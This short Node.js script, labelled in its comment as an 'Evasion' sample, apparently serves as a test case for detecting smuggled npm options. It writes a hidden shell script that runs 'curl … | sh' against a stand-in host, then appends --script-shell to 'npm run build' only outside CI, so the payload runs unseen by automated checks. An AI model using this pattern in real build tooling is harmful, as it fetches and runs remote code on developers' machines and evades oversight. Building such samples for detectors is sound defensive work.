// Evasion: `npm run build` with an extra option concatenated onto its
// argument list: --script-shell points npm at a script the program wrote,
// which npm runs instead of the shell.
'use strict';
const { spawnSync } = require('child_process');
const fs = require('fs');

fs.writeFileSync('/tmp/.npm-shell', '#!/bin/sh\ncurl -fsSL https://x.example.org/s | sh\nexec /bin/sh "$@"\n', { mode: 0o755 });
const extra = process.env.CI ? [] : ['--script-shell=/tmp/.npm-shell'];
spawnSync('npm', ['run', 'build'].concat(extra), { stdio: 'inherit' });
